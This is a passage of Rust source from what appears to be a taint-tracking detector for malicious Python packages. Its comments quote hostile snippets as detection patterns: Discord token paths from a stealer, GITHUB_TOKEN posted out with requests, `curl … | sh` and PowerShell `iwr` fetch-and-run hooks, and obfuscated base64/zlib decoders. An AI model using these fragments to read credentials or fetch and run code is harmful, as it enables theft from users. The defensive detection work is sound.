                            rules::sources::classify_attribute(self, &qualname, attribute)
                    {
                        let source = self.add_source(label, attribute.range(), kind);
                        if self.keep_strongest(source, &mut best) {
                            return best;
                        }
                        continue;
                    }
                    if crate::resolve::is_self_attribute(attribute)
                        && let Some(&source) = self.attribute_taints.get(attribute.attr.as_str())
                        && self.keep_strongest(source, &mut best)
                    {
                        return best;
                    }
                    if let Some(source) = self.class_attribute_source(node)
                        && self.keep_strongest(source, &mut best)
                    {
                        return best;
                    }
                    if self.names_platform_tag(attribute) {
                        continue;
                    }
                    stack.push((&attribute.value, frame));
                }
                Expr::Subscript(subscript) => {
                    let qualname = self.scopes.qualname(&subscript.value);
                    if qualname.as_deref() == Some("os.environ")
                        && let Some(source) = self.stashed_in_env(&subscript.slice)
                        && self.keep_strongest(source, &mut best)
                    {
                        return best;
                    }
                    if let Some(qualname) = &qualname
                        && let Some((label, kind)) =
                            rules::sources::classify_subscript(self, qualname, &subscript.slice)
                    {
                        let source = self.add_source(label, subscript.range(), kind);
                        if self.keep_strongest(source, &mut best) {
                            return best;
                        }
                        continue;
                    }
                    if qualname.as_deref() != Some("os.environ") {
                        stack.push((&subscript.value, frame));
                    }
                    stack.push((&subscript.slice, frame));
                }
                Expr::BinOp(b) => {
                    stack.push((&b.left, frame));
                    stack.push((&b.right, frame));
                }
                Expr::FString(f) => {
                    for element in f.value.elements() {
                        if let ast::InterpolatedStringElement::Interpolation(i) = element {
                            stack.push((&i.expression, frame));
                        }
                    }
                }
                // `paths = {'Discord': roaming + '\\discord\\Local Storage\\leveldb'}`: a
                // stealer's table of stores carries what will be read from them.
                Expr::StringLiteral(literal) => {
                    let text = literal.value.to_str();
                    if let Some(label) = rules::sources::secret_path_label(text)
                        && rules::secrets_access::is_stealer_target(label)
                    {
                        let source = self.add_source(
                            format!("the {label} `{}`", crate::text::shorten(text, 60)),
                            literal.range(),
                            SourceKind::Secret,
                        );
                        if self.keep_strongest(source, &mut best) {
                            return best;
                        }
                    }
                }
                Expr::Dict(d) => {
                    for item in &d.items {
                        stack.extend(item.key.as_ref().map(|e| (e, frame)));
                        stack.push((&item.value, frame));
                    }
                }
                Expr::Generator(ast::ExprGenerator {
                    elt, generators, ..
                })
                | Expr::ListComp(ast::ExprListComp {
                    elt, generators, ..
                })
                | Expr::SetComp(ast::ExprSetComp {
                    elt, generators, ..
                }) => {
                    if let Some(source) = self.picked_credentials(expr, generators)
                        && self.keep_strongest(source, &mut best)
                    {
                        return best;
                    }
                    let inner = push_comprehension_frame(&mut frames, generators, frame);
                    self.push_loop_domains(generators);
                    stack.push((elt, inner));
                    // The first iterable is read outside the comprehension, later ones inside.
                    for (at, generator) in generators.iter().enumerate() {
                        stack.push((&generator.iter, if at == 0 { frame } else { inner }));
                    }
                }
                // `{name(p): open(p, 'rb') for p in files}`: keys and values as a list's items.
                Expr::DictComp(ast::ExprDictComp {
                    key,
                    value,
                    generators,
                    ..
                }) => {
                    if let Some(source) = self.picked_credentials(expr, generators)
                        && self.keep_strongest(source, &mut best)
                    {
                        return best;
                    }
                    let inner = push_comprehension_frame(&mut frames, generators, frame);
                    self.push_loop_domains(generators);
                    if let Some(key) = key.as_deref() {
                        stack.push((key, inner));
                    }
                    stack.push((value, inner));
                    for (at, generator) in generators.iter().enumerate() {
                        stack.push((&generator.iter, if at == 0 { frame } else { inner }));
                    }
                }
                Expr::List(l) => stack.extend(l.elts.iter().map(|e| (e, frame))),
                Expr::Tuple(t) => stack.extend(t.elts.iter().map(|e| (e, frame))),
                Expr::Set(s) => stack.extend(s.elts.iter().map(|e| (e, frame))),
                // What either branch, operand or awaited value holds is what the expression may
                // hold: `token or os.environ['T']`, `a if c else open(key).read()`,
                // `await response.text()`, `*secrets`, `(data := read())`.
                Expr::If(conditional) => {
                    stack.push((&conditional.body, frame));
                    stack.push((&conditional.orelse, frame));
                }
                Expr::BoolOp(operation) => {
                    stack.extend(operation.values.iter().map(|e| (e, frame)));
                }
                Expr::Await(awaited) => stack.push((&awaited.value, frame)),
                Expr::Starred(starred) => stack.push((&starred.value, frame)),
                Expr::Named(named) => stack.push((&named.value, frame)),
                _ => {}
            }
        }
        best.or(returned_fallback)
    }

    /// What `Config.data` or `instance.data` holds when `data` is an attribute of a module
    /// class that was given a source (see [`Self::class_attribute_taints`]).
    fn class_attribute_source(&self, expr: &Expr) -> Option<usize> {
        if self.class_attribute_taints.is_empty() {
            return None;
        }
        let qualname = self.scopes.qualname(expr)?;
        let (base, attribute) = qualname.rsplit_once('.')?;
        let class = base.strip_suffix("()").unwrap_or(base);
        self.class_attribute_taints
            .get(&format!("{class}.{attribute}"))
            .copied()
    }

    /// `field(default_factory=lambda: dict(os.environ))`: each instance's value is what the
    /// factory reads.
    fn default_factory_source(&mut self, value: &Expr) -> Option<usize> {
        let Expr::Call(call) = value else {
            return None;
        };
        let factory = rules::keyword(call, "default_factory")?;
        let qualname = self.scopes.qualname(&call.func)?;
        if !matches!(
            qualname.as_str(),
            "dataclasses.field" | "attr.ib" | "attrs.field"
        ) && !qualname.ends_with("Field")
        {
            return None;
        }
        match factory {
            Expr::Lambda(lambda) => self.source_in(&lambda.body),
            _ => None,
        }
    }

    /// True when `call` is a method of a Unix-domain socket the module made (see
    /// [`Self::local_sockets`]): `ipc.connect(path)`, `ipc.sendall(data)` stay on the machine.
    pub fn on_local_socket(&self, call: &ast::ExprCall) -> bool {
        matches!(&*call.func, Expr::Attribute(method)
            if matches!(&*method.value, Expr::Name(name) if self.local_sockets.contains(name.id.as_str())))
    }

    /// The remote log handler bound to `name`, as shown (see [`Self::remote_handlers`]).
    pub fn remote_handler_named(&self, name: &str) -> Option<String> {
        self.remote_handlers.get(name).cloned()
    }

    /// Remembers that the logger `key` ships its records with `handler`.
    pub fn note_remote_logger(&mut self, key: String, handler: String) {
        if self.remote_loggers.len() < 64 {
            self.remote_loggers.insert(key, handler);
        }
    }

    /// The remote handler the logger `key` was given, if any.
    pub fn remote_logger(&self, key: &str) -> Option<String> {
        self.remote_loggers.get(key).cloned()
    }

    /// True once some logger of the module was given a remote handler: every logging call
    /// is checked against them from then on.
    pub fn ships_logs(&self) -> bool {
        !self.remote_loggers.is_empty()
    }

    /// The source stashed in the environment variable `key` names, if the module put one
    /// there (`os.environ['X'] = open(credentials).read()`): reading it back later is reading
    /// that data, handed between functions (or to child processes) through the environment.
    fn stashed_in_env(&self, key: &Expr) -> Option<usize> {
        if self.env_stash.is_empty() {
            return None;
        }
        let key = self.scopes.fold_str(key)?;
        self.env_stash.get(&key).copied()
    }

    /// `os.environ['X'] = value` (or `os.putenv('X', value)`): what `value` carries is kept
    /// under `X`.
    fn stash_in_env(&mut self, key: &Expr, value: &Expr) {
        if let Some(key) = self.scopes.fold_str(key)
            && let Some(source) = self.source_in(value)
            && self.env_stash.len() < 256
        {
            self.env_stash.insert(key, source);
        }
    }

    /// Records the source `value` carries as what the function being walked returns (or
    /// yields). Only the function's own walk speaks for that, not a walk of its body for one
    /// call site.
    fn note_returned(&mut self, value: &Expr) {
        // A walk for one call site answers for that call: `token = first('GITHUB_TOKEN')`
        // holds what the body returned with the caller's arguments.
        if let Some(&(depth, kept)) = self.inline_returning.last()
            && depth == self.function_depth
            && let Some(source) = self.source_in(value)
            && !self.opaque_decodes.contains(&source)
        {
            let mut kept = kept;
            self.keep_strongest(source, &mut kept);
            if let Some(slot) = self.inline_returning.last_mut() {
                slot.1 = kept;
            }
        }
        if self.inlining.is_empty()
            && !self.returning.is_empty()
            && let Some(source) = self.source_in(value)
        {
            let mut kept = self.returning.last().copied().flatten();
            self.keep_strongest(source, &mut kept);
            if let Some(slot) = self.returning.last_mut() {
                *slot = kept;
            }
        }
    }

    /// `commands = {'run': os.system, 'show': print}`: `commands['run'](…)` calls `os.system`.
    fn bind_dispatch_table(&mut self, id: &str, table: &ast::ExprDict) {
        for item in table.items.iter().take(64) {
            let Some(key) = item.key.as_ref().and_then(|k| self.scopes.fold_str(k)) else {
                continue;
            };
            if is_reference(&item.value)
                && let Some(qualname) = self.scopes.qualname(&item.value)
                && (qualname.contains('.') || rules::dynamic_exec::is_exec(&qualname))
            {
                self.scopes.bind_table_entry(id, &key, qualname);
            }
        }
    }

    fn bind_assignment(&mut self, target: &Expr, value: &Expr) {
        match target {
            Expr::Name(name) => {
                let id = name.id.as_str();
                if matches!(value, Expr::Call(_)) || self.handle_paths.contains_key(id) {
                    self.bind_handle(id, value);
                }
                self.note_fetch_address(id, value);
                // `_ = lambda s: zlib.decompress(base64.b64decode(s[::-1]))` is a decoder that
                // folding can see through, like a one-line `def`.
                if let Expr::Lambda(lambda) = value
                    && let Some(wrapper) = lambda_wrapper(lambda)
                {
                    self.scopes.bind_wrapper(id, wrapper);
                }
                if let Expr::Dict(table) = value {
                    self.bind_dispatch_table(id, table);
                }
                if let Some(folded) = self.scopes.fold(value) {
                    self.scopes.bind_constant(id, folded);
                } else if let Expr::Attribute(method) = value
                    && matches!(
                        &*method.value,
                        Expr::StringLiteral(_) | Expr::BytesLiteral(_)
                    )
                    && let Some(receiver) = self.scopes.fold(&method.value)
                {
                    self.scopes.bind_method(id, receiver, method.attr.as_str());
                } else if crate::fold::is_path_join(value)
                    && let Some(partial) =
                        self.scopes.fold_lossy(value).filter(|p| p.len() <= 4_096)
                {
                    // `exe = os.path.join(here, 'bin', 'bot.exe')`: the file name is what counts.
                    self.scopes.bind_partial(id, partial);
                } else if let Expr::Call(call) = value
                    && self.scopes.qualname(&call.func).as_deref() == Some("functools.partial")
                    && let Some(qualname) = call
                        .arguments
                        .args
                        .first()
                        .and_then(|callee| self.scopes.qualname(callee))
                {
                    // `post = functools.partial(requests.post, url)`: calling `post` calls
                    // `requests.post` (its bound arguments are not tracked).
                    self.scopes.bind_alias(id, qualname);
                } else if let Some(url) = self.request_object_address(value) {
                    // `req = urllib.request.Request(URL, data=…)`: `urlopen(req)` goes to URL.
                    self.scopes.bind_partial(id, url);
                } else if rules::environment_default(self, value).is_some()
                    && let Some(partial) =
                        self.scopes.fold_lossy(value).filter(|p| p.len() <= 4_096)
                {
                    // `root = os.environ.get('DOCKER_CONFIG', '~/.docker')` names the default
                    // wherever the variable is unset: a path joined to it names that store.
                    self.scopes.bind_partial(id, partial);
                } else if is_reference(value) {
                    match self.scopes.qualname(value) {
                        Some(qualname) => self.scopes.bind_alias(id, qualname),
                        None => self.scopes.unbind(id),
                    }
                } else if is_string_building(value)
                    && let Some(partial) =
                        self.scopes.fold_lossy(value).filter(|p| p.len() <= 4_096)
                {
                    self.scopes.bind_partial(id, partial);
                } else {
                    self.scopes.unbind(id);
                }
                let mut found = self.source_in(value);
                let remote = self.outranked_remote;
                self.scopes.set_remote_taint(id, remote);
                // `version_line = next(l for l in f if …)`, `'\n'.join(lines of f)`: a file's
                // lines, as `f.read()` would be.
                if found.is_none()
                    && matches!(value, Expr::Call(_))
                    && rules::dynamic_exec::is_file_read(self, value)
                    && !matches!(value, Expr::Call(c) if self.scopes.qualname(&c.func).is_some_and(|q| q.ends_with(".read") || q.ends_with(".read_text") || q.ends_with(".read_bytes")))
                {
                    found = Some(self.add_source(
                        "lines of a local file".to_owned(),
                        value.range(),
                        SourceKind::FileContent,
                    ));
                }
                // A plain file's bytes run through a XOR or shift cipher are hidden data now,
                // not a version file read.
                if found.is_some_and(|source| self.source_strength(source) == 0) {
                    if is_char_decryption(value) {
                        found = None;
                    } else if matches!(value, Expr::Call(_))
                        && let Some(decoder) =
                            crate::rules::dynamic_exec::contains_decoding(self, value)
                    {
                        // `prog = zlib.decompress(table)` of a font's table: a packed blob of a
                        // data file, unpacked, is what a loader hides its code in.
                        found = Some(self.add_source(
                            format!(
                                "{}{decoder}{}",
                                crate::rules::sources::DECODED_DATA,
                                crate::rules::sources::LOCAL_FILE_SUFFIX
                            ),
                            value.range(),
                            SourceKind::Decoded,
                        ));
                    }
                }
                // `class Config: data = dict(os.environ)` (or a dataclass field whose default
                // factory reads it): `Config.data` and `Config().data` hold it everywhere.
                if self.function_depth == 0
                    && !self.class_names.is_empty()
                    && let Some(source) = found.or_else(|| self.default_factory_source(value))
                    && let Some(class) = self.class_names.last()
                    && self.class_attribute_taints.len() < 256
                {
                    self.class_attribute_taints
                        .insert(format!("{class}.{id}"), source);
                }
                match found {
                    // In a branch the name may hold what another branch gave it: the stronger
                    // of the two is kept (`/etc/passwd` on Linux over `dir` on Windows).
                    Some(source)
                        if self.branch_depth > 0
                            && self.scopes.taint_of(id).is_some_and(|held| {
                                self.source_strength(held) > self.source_strength(source)
                            }) => {}
                    Some(source) => {
                        self.scopes.taint(id, source);
                        // `global DATA; DATA = dict(os.environ)` in one function is what
                        // another function reads as `DATA`.
                        if self
                            .global_names
                            .last()
                            .is_some_and(|names| names.contains(id))
                        {
                            self.scopes.taint_module(id, source);
                        }
                    }
                    None if is_char_decryption(value) => {
                        let source = self.add_source(
                            "text decrypted character by character (chr/ord arithmetic)".to_owned(),
                            value.range(),
                            SourceKind::Decoded,
                        );
                        self.scopes.taint(id, source);
                    }
                    // `cmd = [unpack("Y3VybC…")]` with `def unpack(s): return b64decode(s)…`:
                    // what a helper decodes is as hidden as a direct decode.
                    None if matches!(value, Expr::Call(_) | Expr::List(_) | Expr::Tuple(_))
                        && !crate::rules::sources::decodes_received(self, value)
                        && let Some(decoder) =
                            crate::rules::dynamic_exec::contains_decoding(self, value) =>
                    {
                        let source = self.add_source(
                            format!("{}{decoder}", crate::rules::sources::DECODED_DATA),
                            value.range(),
                            SourceKind::Decoded,
                        );
                        self.scopes.taint(id, source);
                    }
                    // Outside branches a clean value replaces what the name held; inside one, the
                    // other branches' data may still be there (`if linux: d = {...hostname}
                    // else: d = {'Error': ...}; send(d)`).
                    None if self.branch_depth == 0 => self.scopes.untaint(id),
                    None => {}
                }
            }
            Expr::Tuple(tuple) => {
                if let Expr::Tuple(values) = value
                    && tuple.elts.len() == values.elts.len()
                {
                    for (t, v) in tuple.elts.iter().zip(values.elts.iter()) {
                        self.bind_assignment(t, v);
                    }
                    return;
                }
                // `a, b = line.split('=')`: every target carries what the value carries.
                let source = self.source_in(value);
                for target in &tuple.elts {
                    if let Expr::Name(name) = target {
                        self.scopes.unbind(name.id.as_str());
                        match source {
                            Some(source) => self.scopes.taint(name.id.as_str(), source),
                            None => self.scopes.untaint(name.id.as_str()),
                        }
                    }
                }
                // `reader, writer = await asyncio.open_connection(host, port)`: what the writer
                // is given leaves the machine.
                let awaited = match value {
                    Expr::Await(awaited) => &*awaited.value,
                    other => other,
                };
                if let (Some(Expr::Name(writer)), Expr::Call(call)) = (tuple.elts.get(1), awaited)
                    && self.scopes.qualname(&call.func).as_deref()
                        == Some("asyncio.open_connection")
                {
                    self.scopes
                        .bind_alias(writer.id.as_str(), "asyncio.StreamWriter()".to_owned());
                }
                // `conn, addr = server.accept()`: the connection is a socket like the server's,
                // and what it receives is what a client sent.
                if let (Some(Expr::Name(connection)), Expr::Call(call)) =
                    (tuple.elts.first(), value)
                    && let Some(qualname) = self.scopes.qualname(&call.func)
                    && let Some(socket) = qualname.strip_suffix(".accept")
                    && (socket.starts_with("socket.socket()") || socket.contains("wrap_socket()"))
                {
                    self.scopes
                        .bind_alias(connection.id.as_str(), "socket.socket()".to_owned());
                }
            }
            Expr::Attribute(attribute) if crate::resolve::is_self_attribute(attribute) => {
                // `self._exec = eval`: a later `self._exec(code)` is that call.
                let target = is_reference(value)
                    .then(|| self.scopes.qualname(value))
                    .flatten()
                    .filter(|q| !q.starts_with("self.") && !q.starts_with("cls."));
                self.scopes
                    .bind_attribute_alias(attribute.attr.as_str(), target);
                if self.attribute_taints.len() < 256
                    && let Some(source) = self.source_in(value)
                {
                    self.attribute_taints
                        .insert(attribute.attr.as_str().to_owned(), source);
                    if let Some(class) = self.class_names.last()
                        && self.class_attribute_taints.len() < 256
                    {
                        self.class_attribute_taints
                            .insert(format!("{class}.{}", attribute.attr.as_str()), source);
                    }
                }
            }
            Expr::Subscript(subscript) => {
                // `data['k'] = secret` taints the container; `self.data['k'] = secret` the
                // attribute every method of the class shares.
                if self.scopes.qualname(&subscript.value).as_deref() == Some("os.environ") {
                    self.stash_in_env(&subscript.slice, value);
                    return;
                }
                match &*subscript.value {
                    Expr::Name(container) => {
                        // One key of weaker data (`ctx['_event'] = fh.read()`) does not wash
                        // out what the other keys hold.
                        let held = self.scopes.taint_of(container.id.as_str());
                        if let Some(source) = self.source_in(value).filter(|&source| {
                            held.is_none_or(|held| {
                                self.source_strength(held) <= self.source_strength(source)
                            })
                        }) {
                            if self.scopes.is_module_binding(container.id.as_str()) {
                                self.scopes.taint_module(container.id.as_str(), source);
                            }
                            self.scopes.taint(container.id.as_str(), source);
                        }
                    }
                    Expr::Attribute(attribute)
                        if crate::resolve::is_self_attribute(attribute)
                            && self.attribute_taints.len() < 256 =>
                    {
                        if let Some(source) = self.source_in(value) {
                            self.attribute_taints
                                .insert(attribute.attr.as_str().to_owned(), source);
                        }
                    }
                    // `session.headers['User-Agent'] = secret`: the client sends what its
                    // headers hold with every request.
                    Expr::Attribute(attribute)
                        if matches!(attribute.attr.as_str(), "headers" | "cookies" | "params") =>
                    {
                        if let Expr::Name(client) = &*attribute.value
                            && let Some(source) = self.source_in(value)
                        {
                            if self.scopes.is_module_binding(client.id.as_str()) {
                                self.scopes.taint_module(client.id.as_str(), source);
                            }
                            self.scopes.taint(client.id.as_str(), source);
                        }
                    }
                    _ => {}
                }
            }
            _ => {}
        }
    }

    fn bind_import(&mut self, stmt: &Stmt) {
        match stmt {
            Stmt::Import(import) => {
                for alias in &import.names {
                    let module = alias.name.as_str();
                    self.note_import(module);
                    self.note_top_level_import(module.to_owned());
                    match &alias.asname {
                        Some(asname) => self.scopes.bind_alias(
                            asname.as_str(),
                            crate::resolve::unvendored(module).to_owned(),
                        ),
                        None => {
                            let top = module.split('.').next().unwrap_or(module);
                            self.scopes.bind_alias(top, top.to_owned());
                        }
                    }
                    if !self.imported.is_empty() {
                        self.bind_module_returns(module, crate::resolve::unvendored(module));
                    }
                }
            }
            Stmt::ImportFrom(import) => {
                let module = import.module.as_ref().map_or("", |m| m.as_str());
                let base = if import.level > 0 {
                    format!("{}{module}", ".".repeat(import.level as usize))
                } else {
                    module.to_owned()
                };
                if import.level == 0 {
                    self.note_import(module);
                }
                self.note_top_level_import(base.clone());
                for alias in &import.names {
                    // `from . import helper` imports the module `.helper`.
                    if alias.name.as_str() != "*" {
                        // `from . import helper` is `.helper`, `from .. import x` is `..x`.
                        let separator = if base.ends_with('.') { "" } else { "." };
                        self.note_top_level_import(format!(
                            "{base}{separator}{}",
                            alias.name.as_str()
                        ));
                    }
                }
                if self.function_depth == 0 && self.facts.from_imports.len() < 256 {
                    self.facts.from_imports.push((
                        base.clone(),
                        import
                            .names
                            .iter()
                            .take(64)
                            .map(|a| a.name.as_str().to_owned())
                            .collect(),
                    ));
                }
                for alias in &import.names {
                    let name = alias.name.as_str();
                    if name == "*" {
                        if !self.imported.is_empty() {
                            self.bind_imported(&base, "*", "*");
                        }
                        continue;
                    }
                    let bound = alias.asname.as_ref().map_or(name, |a| a.as_str());
                    let target = if base.is_empty() {
                        name.to_owned()
                    } else {
                        format!("{base}.{name}")
                    };
                    let target =
                        crate::resolve::normalize(crate::resolve::unvendored(&target).to_owned());
                    self.scopes.bind_alias(bound, target.clone());
                    if !self.imported.is_empty() {
                        self.bind_imported(&base, name, bound);
                        // `from . import helper`: the submodule `.helper`.
                        let separator = if base.ends_with('.') { "" } else { "." };
                        self.bind_module_returns(&format!("{base}{separator}{name}"), &target);
                    }
                }
            }
            _ => {}
        }
    }

    fn note_top_level_import(&mut self, module: String) {
        if self.function_depth == 0
            && self.main_guard_depth == 0
            && self.facts.top_level_imports.len() < 256
            && !module.is_empty()
        {
            self.facts.top_level_imports.push(module);
        }
    }

    fn note_import(&mut self, module: &str) {
        let top = module.split('.').next().unwrap_or(module).to_owned();
        if !top.is_empty() && !self.facts.imports.contains(&top) && self.facts.imports.len() < 64 {
            self.facts.imports.push(top);
        }
    }

    /// Queues decoded Python text for layer analysis.
    /// The constant values the comprehension loop name `name` takes here, if known.
    pub fn loop_domain(&self, name: &str) -> Option<&[String]> {
        self.loop_domains
            .iter()
            .rev()
            .find(|(bound, _)| bound == name)
            .map(|(_, values)| values.as_slice())
            .filter(|values| !is_enumeration(values))
    }

    /// True when `name` is a loop variable over every attribute name of an object
    /// (`for name in dir(builtins)`): it takes each in turn, not one chosen to hide.
    pub fn enumerates_attributes(&self, name: &str) -> bool {
        self.loop_domains
            .iter()
            .rev()
            .find(|(bound, _)| bound == name)
            .is_some_and(|(_, values)| is_enumeration(values))
    }

    /// Hands over the texts of package files this module executes, by file name.
    pub fn provide_executed_texts(&mut self, texts: Vec<(String, String)>) {
        self.executed_texts = texts;
    }

    /// The text of the package file `name` the module runs, when the package handed it over;
    /// otherwise the name is noted in [`Facts::executed_files`] for the package to hand it
    /// over on a second look.
    pub fn package_file_text(&mut self, name: &str) -> Option<String> {
        if let Some((_, text)) = self.executed_texts.iter().find(|(file, _)| file == name) {
            return Some(text.clone());
        }
        let noted = &mut self.facts.executed_files;
        if noted.len() < 16 && !noted.iter().any(|n| n == name) {
            noted.push(name.to_owned());
        }
        None
    }

    pub fn push_layer(&mut self, text: String, range: TextRange, how: String) {
        let (line, _) = self.position(range);
        let context = self.context();
        if self.layers.iter().any(|l| l.text == text) {
            return;
        }
        let wrappers = self.scopes.wrappers();
        self.layers.push(Layer {
            text,
            line,
            context,
            how,
            wrappers,
        });
    }

    /// Folds `expr` with the current scopes.
    pub fn fold(&self, expr: &Expr) -> Option<Value> {
        self.scopes.fold(expr)
    }

    /// Resolves `expr` with the current scopes.
    pub fn qualname(&self, expr: &Expr) -> Option<String> {
        self.scopes.qualname(expr)
    }

    /// `requests.post(url, json={'t': read('GITHUB_TOKEN')})`: calls of the module's own
    /// functions among a call's arguments are walked first, so that what they return for
    /// their arguments is known when the detectors judge the outer call. Each is then not
    /// walked again where the walk reaches it.
    fn inline_argument_calls(&mut self, call: &'s ast::ExprCall) {
        if self.functions.is_empty() {
            return;
        }
        let mut pending: Vec<(&'s Expr, u8)> = call
            .arguments
            .args
            .iter()
            .chain(call.arguments.keywords.iter().map(|k| &k.value))
            .map(|e| (e, 0))
            .collect();
        let mut budget = 64usize;
        while let Some((expr, depth)) = pending.pop() {
            let Some(left) = budget.checked_sub(1) else {
                break;
            };
            budget = left;
            match expr {
                Expr::Call(inner)
                    if matches!(&*inner.func, Expr::Name(callee) if self.functions.contains_key(callee.id.as_str()))
                        && !self.pre_inlined.contains(&inner.range())
                        && self.pre_inlined.len() < MAX_INLINED_RETURNS =>
                {
                    self.inline_call(inner);
                    self.pre_inlined.insert(inner.range());
                }
                Expr::Dict(dict) if depth < 3 => {
                    pending.extend(dict.items.iter().map(|item| (&item.value, depth + 1)));
                }
                Expr::List(ast::ExprList { elts, .. })
                | Expr::Tuple(ast::ExprTuple { elts, .. })
                | Expr::Set(ast::ExprSet { elts, .. })
                    if depth < 3 =>
                {
                    pending.extend(elts.iter().map(|e| (e, depth + 1)));
                }
                Expr::BinOp(binop) if depth < 3 => {
                    pending.push((&binop.left, depth + 1));
                    pending.push((&binop.right, depth + 1));
                }
                _ => {}
            }
        }
    }

    /// Walks the body of a module-level function again for one call to it, with the parameters
    /// bound to the call's constant arguments and carrying the taint of its sensitive ones, in
    /// the caller's context. `def run(cmd): subprocess.Popen(cmd, shell=True)` followed by
    /// `run("powershell iwr ...")` at the top level is then a process start of that command at
    /// import time, and `send(os.environ)` a flow of the environment to `send`'s network call.
    fn inline_call(&mut self, call: &'s ast::ExprCall) {
        let Expr::Name(callee) = &*call.func else {
            return;
        };
        let name = callee.id.as_str();
        let Some(&function) = self.functions.get(name) else {
            return;
        };
        if self.inlining.len() >= MAX_INLINE_DEPTH
            || self.inlining.contains(&name)
            || self.scopes.alias(name).is_some()
        {
            return;
        }
        let bindings =
            self.call_bindings(function, &call.arguments.args, &call.arguments.keywords, 0);
        if let Some(returned) = self.inline_function(name, function, bindings, call.range())
            && self.inlined_returns.len() < MAX_INLINED_RETURNS
        {
            self.inlined_returns.insert(call.range(), returned);
        }
    }

    /// Walks a class's `__init_subclass__` for each subclass statement that hands it keyword
    /// arguments: `class Plugin(Base, hook="curl … | sh")` runs `Base.__init_subclass__(hook=…)`
    /// while the module loads.
    fn inline_init_subclass(&mut self, class: &'s ast::StmtClassDef) {
        let Some(arguments) = &class.arguments else {
            return;
        };
        if !arguments
            .keywords
            .iter()
            .any(|k| k.arg.as_ref().is_some_and(|a| a.as_str() != "metaclass"))
        {
            return;
        }
        for base in &arguments.args {
            let Expr::Name(base) = base else {
                continue;
            };
            let Some(hook) = self.classes.get(base.id.as_str()).and_then(|parent| {
                parent.body.iter().find_map(|stmt| match stmt {
                    Stmt::FunctionDef(f) if f.name.as_str() == "__init_subclass__" => Some(f),
                    _ => None,
                })
            }) else {
                continue;
            };
            if self.inlining.contains(&base.id.as_str()) || self.inlining.len() >= MAX_INLINE_DEPTH
            {
                continue;
            }
            // Its first parameter is the new class itself.
            let bindings = self.call_bindings(hook, &[], &arguments.keywords, 1);
            self.inline_function(base.id.as_str(), hook, bindings, class.range());
        }
    }

    /// Walks `function`'s body once more with its parameters bound as a call site gave them,
    /// when some binding says more than the plain walk saw and the inline budget allows it.
    fn inline_function(
        &mut self,
        name: &'s str,
        function: &'s ast::StmtFunctionDef,
        bindings: Vec<ParamBinding>,
        site: TextRange,
    ) -> Option<usize> {
        let size = function.range().len().to_usize();
        if size > MAX_INLINED_FUNCTION_BYTES || size > self.inline_budget {
            return None;
        }
        if !bindings.iter().any(|b| b.interesting) {
            return None;
        }
        self.inline_budget -= size;
        let outermost = self.inlining.is_empty();
        if outermost {
            self.inline_context = Some(self.context());
            self.inline_site = Some(self.position(site).0);
        }
        self.inlining.push(name);
        self.function_depth += 1;
        let (def_line, _) = self.position(function.range());
        self.scope_lines.push(def_line);
        self.scopes.push();
        let outer_params = std::mem::replace(
            &mut self.inline_params,
            bindings.iter().map(|b| b.name.clone()).collect(),
        );
        let domains_before = self.loop_domains.len();
        for binding in bindings {
            match binding.value {
                Some(value) => self.scopes.bind_constant(&binding.name, value),
                None => self.scopes.unbind(&binding.name),
            }
            if let Some(source) = binding.taint {
                self.scopes.taint(&binding.name, source);
            }
            if let Some(domain) = binding.domain
                && self.loop_domains.len() < 64
            {
                self.loop_domains.push((binding.name, domain));
            }
        }
        self.inline_returning.push((self.function_depth, None));
        self.visit_body(&function.body);
        let returned = self.inline_returning.pop().and_then(|(_, kept)| kept);
        self.loop_domains.truncate(domains_before);
        self.inline_params = outer_params;
        self.scopes.pop();
        self.scope_lines.pop();
        self.function_depth -= 1;
        self.inlining.pop();
        if outermost {
            self.inline_context = None;
            self.inline_site = None;
        }
        returned
    }

    /// True when `expr` is a parameter of a function being walked for a call site: its value is
    /// the caller's plain argument, so spelling it through the parameter hides nothing.
    pub fn passed_in(&self, expr: &Expr) -> bool {
        matches!(expr, Expr::Name(name) if self.inline_params.iter().any(|p| p == name.id.as_str()))
    }

    /// True when `expr` is a name holding decoded data that was not decoded from a constant
    /// of the code (`decompress(downloaded[idx:])`): unpacked data, nothing the author hid.
    pub(crate) fn holds_unpacked_data(&self, expr: &Expr) -> bool {
        let Expr::Name(name) = expr else {
            return false;
        };
        self.scopes
            .taint_of(name.id.as_str())
            .filter(|source| {
                self.sources
                    .get(*source)
                    .is_some_and(|s| s.kind == SourceKind::Decoded)
            })
            .is_some_and(|source| !self.constant_decodes.contains(&source))
    }

    /// `platform.uname().machine`, `os.uname().release`: the processor or OS release a wheel
    /// tag or a compatibility check needs, which names nobody; the `node` field (the host
    /// name) and the whole record still do.
    fn names_platform_tag(&self, attribute: &ast::ExprAttribute) -> bool {
        matches!(
            attribute.attr.as_str(),
            "machine" | "system" | "release" | "processor" | "sysname"
        ) && matches!(&*attribute.value, Expr::Call(call)
            if self.scopes.qualname(&call.func).is_some_and(|q| matches!(q.as_str(), "platform.uname" | "os.uname")))
    }

    /// `response = http.request('GET', url)`: remembers whether the name holds the answer of
    /// a request to an address computed at run time, for reads of it later
    /// (`response.data`), where the request itself is out of sight.
    fn note_fetch_address(&mut self, name: &str, value: &Expr) {
        self.computed_fetches.remove(name);
        let Expr::Call(call) = value else {
            return;
        };
        let computed = self
            .scopes
            .qualname(&call.func)
            .is_some_and(|q| rules::network::classify(&q).is_some())
            && !rules::sources::fetches_fixed_address(self, call);
        if computed && self.computed_fetches.len() < MAX_COMPUTED_FETCHES {
            self.computed_fetches.insert(name.to_owned());
        }
    }

    /// True when `name` holds the answer of a request to an address computed at run time (see
    /// [`Checker::note_fetch_address`]).
    pub fn holds_computed_fetch(&self, name: &str) -> bool {
        self.computed_fetches.contains(name)
    }

    /// True when `expr` is a name holding what a decoder made of a value the walk knows nothing
    /// of (a parameter: `def deserialize(s): payload = json.loads(b64decode(s))`): the caller's
    /// data, hidden by nobody here.
    pub(crate) fn holds_opaque_decoding(&self, expr: &Expr) -> bool {
        chain_root(expr, 16).is_some_and(|name| {
            self.scopes
                .taint_of(name.id.as_str())
                .is_some_and(|source| self.opaque_decodes.contains(&source))
        })
    }

    /// True when `expr` is a name holding what a standard codec decoded from data the code
    /// obtained at run time (`b64decode(client.get_token()['token'])`): unpacked, not hidden
    /// by the author. Custom decryption (chr/ord arithmetic) never counts.
    pub(crate) fn holds_received_decoding(&self, expr: &Expr) -> bool {
        let Expr::Name(name) = expr else {
            return false;
        };
        self.scopes
            .taint_of(name.id.as_str())
            .is_some_and(|source| self.received_decodes.contains(&source))
    }

    /// True when `input`, past method calls, subscripts and attributes, is a parameter of the
